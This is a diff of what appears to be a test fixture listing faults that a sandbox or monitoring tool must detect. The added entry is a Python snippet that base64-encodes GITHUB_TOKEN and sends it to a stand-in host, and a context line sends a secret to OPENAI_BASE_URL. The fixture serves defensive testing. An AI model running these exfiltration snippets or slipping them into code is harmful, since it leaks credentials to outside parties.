@@ -141,6 +141,14 @@ _FAULTS = {
             "r.build_opener(r.ProxyHandler({})).open(os.environ['OPENAI_BASE_URL'], secret)"
         ),
     ),
+    "sends a secret in base64": (
+        "network: GITHUB_TOKEN went to the thief",
+        (
+            "import base64, os, urllib.request as r\n"
+            "secret = base64.b64encode(b'user:' + os.environb[b'GITHUB_TOKEN']).decode()\n"
+            "r.urlopen(r.Request('http://a.example/', headers={'authorization': 'Basic ' + secret}))"
+        ),
+    ),
     "runs what was planted": ("programs: ran of the repository", "open({mark!r}, 'w')"),
     "prints an escape": ("output: stdout: printed '\\x1b'", "print('\\x1b[2J')"),
     "prints a C1 control": ("output: stderr: printed '\\x9b'", "import os; os.write(2, b'\\xc2\\x9b31m')"),
